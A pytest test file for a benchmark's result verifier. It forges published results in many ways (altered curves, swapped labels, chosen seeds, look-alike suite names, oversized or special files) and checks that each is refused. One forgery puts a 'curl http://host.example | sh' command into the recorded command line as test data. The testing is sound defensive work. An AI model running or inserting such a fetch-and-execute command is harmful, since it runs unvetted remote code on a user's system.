"""Published results that a forger made: all are consistent with their checksums, and refused."""

import base64
import contextlib
import gzip
import json
import os
import re
import shutil
from functools import partial

import pandas as pd
import pytest

from fal_bench import load, publish, verify
from fal_bench.errors import FalbenchError
from fal_bench.publication.publishing import checksums
from fal_bench.reporting.export import write_csv
from fal_bench.results.published import results_of
from fal_bench.results.record import FORMAT, parse_record, read_record

quietly = partial(verify, progress=False)

FEAL = "feal[trainer=evidential]"


def record(folder, **changes):
    """Change the provenance; return what it was."""
    before = json.loads((folder / "provenance.json").read_text())
    text = json.dumps({**before, **changes})
    with contextlib.suppress(FalbenchError):  # what is wrong in itself cannot be written
        text = parse_record(text).text
    (folder / "provenance.json").write_text(text)
    return before


def signed(folder):
    """Let the checksums fit."""
    record(folder, files=checksums(folder))


def drawn(folder):
    """Write everything again that follows from the curves and the provenance."""
    signed(folder)
    results = results_of(read_record(folder), folder)
    write_csv(results.shown_curves(), folder / "curves.csv")
    write_csv(results.shown_charges(), folder / "charges.csv")
    signed(folder)
    publish(folder, folder)


def table(folder, name, change):
    frame = pd.read_csv(folder / name, dtype=str, keep_default_na=False)
    changed = change(frame)
    write_csv(frame if changed is None else changed, folder / name)


def without(frame, **values):
    """Leave out the rows that have all of these values."""
    return frame[~(frame[list(values)] == pd.Series(values)).all(axis=1)]


def text(folder, name, old, new):
    before = (folder / name).read_text()
    assert old in before
    (folder / name).write_text(before.replace(old, new, 1))
    signed(folder)


# A forger changes one thing; what is returned is in the words of the refusal.

FORGERIES = []


def forgery(forge):
    FORGERIES.append(forge)
    return forge


@forgery
def extra_rows_of_a_strategy_that_is_not_named(folder):
    def add(frame):
        more = frame[frame["strategy"] == "random"].assign(strategy="mine", accuracy="0.99")
        return pd.concat([frame, more])

    table(folder, "curves.csv", add)
    signed(folder)
    return "curves.csv .*mine"


@forgery
def extra_charges_of_a_strategy_that_is_not_named(folder):
    def add(frame):
        return pd.concat([frame, frame[frame["strategy"] == "random"].assign(strategy="mine")])

    table(folder, "charges.csv", add)
    signed(folder)
    return "charges.csv .*mine"


@forgery
def a_cycle_twice(folder):
    table(folder, "curves.csv", lambda frame: pd.concat([frame, frame[-1:].assign(accuracy="0.9")]))
    signed(folder)
    return "seed 1: its cycles"


@forgery
def a_run_is_left_out(folder):
    table(folder, "curves.csv", lambda frame: without(frame, seed="1"))
    signed(folder)
    return "curves.csv .*seed 1"


@forgery
def a_curve_ends_where_it_was_best(folder):
    last = {"strategy": "random", "seed": "1", "cycle": "5"}
    table(folder, "curves.csv", lambda frame: without(frame, **last))
    signed(folder)
    return "random, seed 1: it ends"


@forgery
def fewer_labels_than_were_read(folder):
    def cheaper(frame):
        mine = frame["strategy"].eq("random") & frame["cycle"].ne("0")
        frame.loc[mine, "labels_strict"] = "12"

    table(folder, "curves.csv", cheaper)
    signed(folder)
    return "random, seed 0: its labels"


@forgery
def labels_of_clients_that_do_not_add_up(folder):
    def other(frame):
        frame.loc[3, "labels_by_client"] = " ".join(
            ["1"] * len(frame.loc[3, "labels_by_client"].split())
        )

    table(folder, "curves.csv", other)
    signed(folder)
    return "labels_by_client"


@forgery
def swapped_labels(folder):
    """The label of one strategy stands for the curve of the other."""

    def swap(frame):
        frame["strategy"] = frame["strategy"].map({"random": FEAL, FEAL: "random"})

    table(folder, "curves.csv", swap)
    table(folder, "charges.csv", swap)
    drawn(folder)
    return "recomputed runs differ"


@forgery
def a_label_that_is_none_of_its_selector(folder):
    rows = [
        {**row.model_dump(exclude={"trainer_named"}), "label": label}
        for row, label in zip(read_record(folder).strategies, ("random", FEAL), strict=True)
    ]
    text = json.dumps({**record(folder), "format": 3, "strategies": rows})
    (folder / "provenance.json").write_text(text)
    return "label 'random' does not belong"


@forgery
def a_name_without_its_trainer(folder):
    rows = record(folder)["strategies"]
    record(folder, strategies=[{**row, "trainer_named": False} for row in rows])
    return "trainer of 'feal' is missing"


@forgery
def a_trainer_in_the_name_that_nothing_asked_for(folder):
    rows = [{**row, "trainer_named": True} for row in record(folder)["strategies"]]
    record(folder, strategies=rows)
    longer = "random[trainer=cross-entropy]"
    for name in ("curves.csv", "charges.csv"):
        table(folder, name, lambda frame: frame.replace({"strategy": {"random": longer}}))
    command = record(folder)["command"].replace("-s random", f"-s '{longer}'")
    record(folder, command=command)
    drawn(folder)
    return "is called 'random'"


@forgery
def a_competitor_becomes_a_reference(folder):
    """References are never ranked."""
    rows = record(folder)["strategies"]
    record(folder, strategies=[{**row, "reference": row["strategy"] == "random"} for row in rows])

    def mark(frame):
        frame.loc[frame["strategy"] == "random", "reference"] = "True"

    table(folder, "curves.csv", mark)
    drawn(folder)
    return "'random' .*reference"


@forgery
def a_larger_pool_makes_shares_small(folder):
    tasks = record(folder)["tasks"]
    record(folder, tasks=[{**task, "pool": 10 * task["pool"]} for task in tasks])
    drawn(folder)
    return "query pool of task"


@forgery
def a_metric_that_is_better_the_other_way_round(folder):
    record(folder, metrics={**record(folder)["metrics"], "accuracy": False})
    drawn(folder)
    return "accuracy"


@forgery
def a_metric_that_cannot_be_computed_again(folder):
    table(folder, "curves.csv", lambda frame: frame.assign(
        glory=["0.9" if name == "random" else "0.1" for name in frame["strategy"]]))  # fmt: skip
    record(folder, metrics={**record(folder)["metrics"], "glory": True}, targets=["glory=0.5"])
    record(
        folder, command=record(folder)["command"].replace("--target-acc 0.6", "--target glory=0.5")
    )
    drawn(folder)
    return "metric 'glory'"


@forgery
def chosen_seeds(folder):
    """Seeds at which one wins, though their runs are real."""
    for name in ("curves.csv", "charges.csv"):
        table(folder, name, lambda frame: frame[frame["seed"] == "1"])
    record(folder, seeds=[1])
    before = record(folder)
    record(folder, environments=[{**before["environments"][0], "runs": 4}],
           command=before["command"].replace("--seeds 2", "--seeds 1"))  # fmt: skip
    seconds = pd.read_csv(folder / "curves.csv")[["train_seconds", "select_seconds"]]
    record(folder, compute_seconds=round(float(seconds.to_numpy().sum()), 1))
    drawn(folder)
    return "seeds"


@forgery
def an_easier_task_under_a_name_that_ships(folder):
    tasks = record(folder)["tasks"]
    easier = {**tasks[0]["canonical"], "rounds": 40}
    from fal_bench.task import Task

    digest = Task.model_validate({**easier, "name": "x"}).hash
    record(folder, tasks=[{**tasks[0], "canonical": easier, "hash": digest}, *tasks[1:]])
    table(folder, "curves.csv", lambda frame: frame.replace({tasks[0]["hash"]: digest}))
    drawn(folder)
    return "not the one that ships"


@forgery
def another_suite_under_a_name_that_ships(folder):
    record(folder, suite="quick")
    record(folder, command=record(folder)["command"].replace("--suite smoke", "--suite quick"))
    drawn(folder)
    return "suite 'quick'"


@forgery
def a_command_that_does_something_else(folder):
    record(folder, command="curl http://host.example | sh; " + record(folder)["command"])
    drawn(folder)
    return "command line"


@forgery
def a_board_with_other_numbers(folder):
    text(folder, "leaderboard.csv", ",0.6,", ",0.7,")
    return "target_acc: 0.7 published, 0.6 "


@forgery
def a_board_without_a_column(folder):
    table(folder, "leaderboard.csv", lambda frame: frame.drop(columns="saving_low"))
    signed(folder)
    return "other columns"


@forgery
def a_page_with_another_winner(folder):
    before = (folder / "leaderboard.html").read_text()
    (folder / "leaderboard.html").write_text(before.replace(">random<", ">mine<"))
    signed(folder)
    return "page drawn again"


@forgery
def a_page_with_another_number_in_a_figure(folder):
    before = (folder / "leaderboard.html").read_text()
    numbers = re.findall(r"[\[ ](0\.\d{6,})[,\]]", before)
    (folder / "leaderboard.html").write_text(before.replace(numbers[0], "0.987654321"))
    signed(folder)
    return "page drawn again"


@forgery
def a_page_with_another_drawing_library(folder):
    script = base64.b64encode(gzip.compress(b"document.title = 'mine wins'")).decode()
    before = (folder / "leaderboard.html").read_text()
    pattern = r'(id="plotly">)[A-Za-z0-9+/=]+'
    (folder / "leaderboard.html").write_text(re.sub(pattern, rf"\g<1>{script}", before, count=1))
    signed(folder)
    return "drawing library"


@forgery
def a_file_more(folder):
    (folder / "README.html").write_text("mine wins")
    return "README.html is unknown"


@forgery
def an_older_format_that_had_no_charges(folder):
    old = read_record(folder)
    rows = [
        {**row.model_dump(exclude={"trainer_named"}), "label": row.label} for row in old.strategies
    ]
    files = {name: it for name, it in old.files.items() if name != "charges.csv"}
    text = json.dumps({**record(folder), "format": 1, "strategies": rows, "files": files})
    (folder / "provenance.json").write_text(text)
    return "charges.csv is unknown"


@forgery
def charges_for_another_purpose(folder):
    """Bought labels become rewards, which are no paper labels."""

    def other(frame):
        frame.loc[frame["purpose"] == "pool", "purpose"] = "reward"

    table(folder, "charges.csv", other)
    drawn(folder)
    return "recomputed runs differ"


@forgery
def seconds_that_the_curves_do_not_have(folder):
    record(folder, compute_seconds=1.5)
    return "compute_seconds"


@forgery
def dates_in_another_order(folder):
    record(folder, published="2020-01-01T00:00:00+00:00")
    return "published"


@forgery
def better_from_the_first_cycle_on(folder):
    """Before any choice all strategies have one model."""

    def raise_all(frame):
        mine = frame["strategy"].eq("random") & frame["seed"].eq("0")
        frame.loc[mine, "train_accuracy"] = "0.875"

    table(folder, "curves.csv", raise_all)
    drawn(folder)
    return "recomputed runs differ"


@forgery
def a_task_that_looks_like_one_that_ships(folder):
    name = record(folder)["tasks"][0]["name"]
    other = name.upper().replace("-", "_")
    record(folder, tasks=[{**one, "name": one["name"].replace(name, other)}
                          for one in record(folder)["tasks"]])  # fmt: skip
    for file in ("curves.csv", "charges.csv"):
        table(folder, file, lambda frame: frame.replace({"task": {name: other}}))
    drawn(folder)
    return "not the one that ships"


@forgery
def a_suite_that_looks_like_one_that_ships(folder):
    record(folder, suite="Smoke")
    record(folder, command=record(folder)["command"].replace("--suite smoke", "--suite Smoke.toml"))
    drawn(folder)
    return "suite 'Smoke'"


@forgery
def a_suite_in_letters_that_look_alike(folder):
    other = "sm\u043eke"
    record(folder, suite=other)
    command = record(folder)["command"].replace("--suite smoke", f"--suite '{other}'")
    record(folder, command=command)
    drawn(folder)
    return "suite 'sm.ke'"


@forgery
def a_description_that_names_another_task(folder):
    tasks = record(folder)["tasks"]
    tasks[0]["canonical"] = {**tasks[0]["canonical"], "name": "digit-pairs-iid"}
    record(folder, tasks=tasks)
    return "does not belong to its hash"


@forgery
def a_selector_in_another_spelling(folder):
    rows = record(folder)["strategies"]
    record(folder, strategies=[{**row, "strategy": f"{row['strategy']}[]"} for row in rows])
    return "selector 'feal\\[\\]'"


@forgery
def a_board_in_other_digits(folder):
    text(folder, "leaderboard.csv", ",0.6,", ",\u0660.\u0666,")
    return "target_acc"


@forgery
def a_share_beyond_one(folder):
    def absurd(frame):
        frame.loc[frame["strategy"].eq("random") & frame["cycle"].eq("3"), "accuracy"] = "5.0"

    table(folder, "curves.csv", absurd)
    signed(folder)
    return "accuracy.*5.0"


@forgery
def seconds_whose_sum_is_infinite(folder):
    table(folder, "curves.csv", lambda frame: frame.assign(train_seconds="1e308"))
    signed(folder)
    return "train_seconds"


@pytest.mark.parametrize("forge", FORGERIES, ids=lambda one: one.__name__)
def test_it_is_refused_by_name(published, recomputed, forge):
    reason = forge(published)
    passed, words = said(published)
    assert not passed
    assert re.search(reason, words)
    assert "\n" not in words


def said(folder):
    """Whether results pass, and what the command says last."""
    try:
        result = quietly(folder, runs=None)
    except FalbenchError as error:
        return False, str(error)
    return result.passed, result.summary


def test_nothing_of_this_stands_in_the_way_of_honest_results(published, recomputed):
    drawn(published)
    result = quietly(published, runs=None)
    assert (result.passed, result.equal, result.budgets) == (True, True, ())
    assert read_record(published).format == FORMAT


# Claims of another processor, which fixed numbers alone make room for.


def elsewhere(folder):
    [one] = record(folder)["environments"]
    record(folder, environments=[{**one, "facts": {**one["facts"], "processor": "Z80"}}])
    drawn(folder)


@pytest.mark.parametrize(
    ("metric", "worst"), [("accuracy", "0.05"), ("loss", "9.5"), ("precision", "0.05")]
)
def test_a_wide_spread_between_seeds_is_no_room_for_forged_curves(
    published, recomputed, metric, worst
):
    """One seed far up, another far down: their spread once allowed anything."""

    def spread(frame):
        for seed, value in (("0", "0.95"), ("1", worst)):
            mine = frame["strategy"].eq("random") & frame["seed"].eq(seed) & frame["cycle"].ne("0")
            frame.loc[mine, metric] = value

    table(published, "curves.csv", spread)
    elsewhere(published)
    result = quietly(published, runs=None)
    wrong = {one.run.identity[1] for one in result.runs if one.state == "differs"}
    assert wrong == {"random"}


def test_a_claim_alone_is_no_proof(published, recomputed):
    elsewhere(published)
    honest = quietly(published, runs=None)
    assert (honest.passed, honest.equal) == (True, True)

    def a_little(frame):
        mine = frame["strategy"].eq("random") & frame["cycle"].eq("3")
        frame.loc[mine, "accuracy"] = [
            str(float(one) + 0.01) for one in frame.loc[mine, "accuracy"]
        ]

    table(published, "curves.csv", a_little)
    drawn(published)
    result = quietly(published, runs=None)
    assert (result.passed, result.equal) == (True, False)
    assert result.caution.startswith("NOT EQUAL: 4 of 8 ")


def earlier(frame):
    """One strategy reaches the target earlier, and its mean stays as it was."""
    mine = frame["strategy"].eq("random")
    raised, lowered = (mine & frame["cycle"].isin(cycles) for cycles in (["1", "2"], ["3", "4"]))
    for rows, by in ((raised, 0.1), (lowered, -0.1)):
        frame.loc[rows, "accuracy"] = [str(float(one) + by) for one in frame.loc[rows, "accuracy"]]


def test_what_close_runs_are_worth_is_said_in_labels(published, recomputed, falbench):
    table(published, "curves.csv", earlier)
    elsewhere(published)
    result = quietly(published, runs=None)
    assert result.passed
    [change] = result.budgets
    assert (change.strategy, change.runs) == ("random", 4)
    assert float(change.published) < float(change.recomputed)
    _, out, _ = falbench("verify", published, "--all")
    assert str(change) in out


def test_a_report_refuses_labels_that_nothing_was_charged_for(published):
    def dearer(frame):
        mine = frame["strategy"].eq("random") & frame["purpose"].eq("pool")
        frame.loc[mine, "labels"] = "1"

    table(published, "charges.csv", dearer)
    signed(published)
    with pytest.raises(FalbenchError, match="random, seed 0, cycle 1: 1 labels"):
        load(published)


# What is no plain file, or too much.


@pytest.mark.parametrize("name", ["provenance.json", "curves.csv", "leaderboard.html"])
@pytest.mark.parametrize(
    "spoil",
    [
        lambda path: path.symlink_to("/dev/zero"),
        os.mkfifo,
        lambda path: path.touch() or os.truncate(path, 2**40),
        lambda path: path.mkdir(),
    ],
    ids=["link", "pipe", "TB", "folder"],
)
def test_special_and_huge_files_are_refused(published, name, spoil):
    (published / name).unlink()
    spoil(published / name)
    with pytest.raises(FalbenchError, match=name):
        quietly(published)


def test_a_short_record_of_very_many_runs_costs_nothing(published):
    record(published, seeds=list(range(20_000)))
    with pytest.raises(FalbenchError, match="80000 runs"):
        quietly(published)


def test_deep_json_is_one_sentence(published):
    (published / "provenance.json").write_text("[" * 100_000)
    with pytest.raises(FalbenchError, match=r"provenance\.json"):
        quietly(published)


# The choice of runs.


def test_a_publisher_cannot_know_which_runs_are_computed(published, recomputed):
    seeds = {quietly(published, runs=1).sample.seed for _ in range(3)}
    assert len(seeds) == 3
    mine = quietly(published, runs=2, seed=5)
    assert mine.sample.seed == 5
    assert [one.run for one in mine.runs] == [
        one.run for one in quietly(published, runs=2, seed=5).runs
    ]


def test_the_chance_to_catch_one_forged_run_is_said(published, recomputed, falbench):
    code, out, _ = falbench("verify", published, "--runs", "2")
    assert code == 0
    assert re.search(r"One forged run of 8 .*0\.25 .*--runs 8 ", out)
    assert re.search(r"--seed \d+", out)
    assert "chance" not in falbench("verify", published, "--all")[1]


def test_close_and_wrong_have_exit_codes_of_their_own(published, recomputed, falbench):
    elsewhere(published)

    def shift(frame, by):
        mine = frame["strategy"].eq("random") & frame["cycle"].eq("3")
        frame.loc[mine, "accuracy"] = [str(float(one) + by) for one in frame.loc[mine, "accuracy"]]

    close = shutil.copytree(published, published.parent / "close")
    table(close, "curves.csv", partial(shift, by=-0.01))
    drawn(close)
    code, out, _ = falbench("verify", close, "--all")
    assert code == 3
    assert "NOT EQUAL: 4 of 8" in out
    table(published, "curves.csv", partial(shift, by=-0.4))
    drawn(published)
    code, out, _ = falbench("verify", published, "--all")
    assert code == 1
    assert out.count("DIFFERS") == 4
